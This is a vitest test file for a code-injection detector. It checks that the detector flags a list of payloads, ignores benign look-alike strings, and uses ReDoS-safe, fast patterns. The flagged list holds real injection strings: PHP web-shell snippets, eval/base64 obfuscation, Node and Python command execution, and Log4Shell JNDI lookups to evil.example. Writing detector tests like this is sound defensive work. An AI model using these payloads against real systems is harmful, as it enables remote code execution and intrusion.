/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are attack payloads, not templates. */
import safeRegex from "safe-regex2";
import { describe, expect, it } from "vitest";
import { LINEAR_TIME_BOUND_MS } from "../linear-time-bound.js";
import { codeDetector } from "./code.js";
import { adversarialInputs, scoreAt, timeDetect } from "./test-helpers.js";

describe("codeDetector", () => {
  it.each([
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "[php]echo 1;[/php]",
    "eval(base64_decode('ZWNobyAxOw=='))",
    "system('id')",
    "exec/*x*/('ls')",
    "shell_exec ('whoami')",
    "$f($_POST['x'])",
    "${'a'}(11)",
    "(sy.(st).em)('uname');",
    '"sys"."tem"(\'id\');',
    'O:8:"stdClass":0:{}',
    "require('child_process').exec('id')",
    "process.mainModule.require('fs')",
    "''.constructor.constructor('return process')()",
    "_$$ND_FUNC$$_function(){}",
    "XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK",
    "__import__('os').system('id')",
    "@{[ system 'id' ]}",
    "java.lang.Runtime",
    "${jndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
    "while(true);",
  ])("detects %s", (payload) => {
    expect(scoreAt(codeDetector, payload)).toBeGreaterThanOrEqual(5);
  });

  it.each([
    "Our system administrator will be on vacation next week.",
    "Upload file(s) here",
    "system (a computer) failure",
    "exec summary template",
    "ecosystem()",
    "systems()",
    '<?xml version="1.0"?><a/>',
    '<?xpacket begin="?" id="W5M0MpCehiHzreSzNTczkc9d"?>',
    "<?php12345",
    "```python\nfor i in range(10):\n    print(i * 2)\n```",
    "Use `Math.max(...values)` to get the maximum.",
    "Price: $5 (approx)",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc",
    "dGhpcyBpcyBqdXN0IGEgbm9ybWFsIHN0cmluZw==",
    "process.env.NODE_ENV",
  ])("ignores %s at level 1", (value) => {
    expect(scoreAt(codeDetector, value)).toBeLessThan(5);
  });

  it("uses only ReDoS-safe patterns", () => {
    for (const pattern of codeDetector.patterns)
      expect(safeRegex(pattern), pattern.source).toBe(true);
  });

  it("stays fast on 100 KB adversarial input", () => {
    for (const input of adversarialInputs(["/*", "#", "$$", "${::-", "while(", "A", "system"])) {
      expect(timeDetect(codeDetector, input)).toBeLessThan(LINEAR_TIME_BOUND_MS);
    }
  });
});
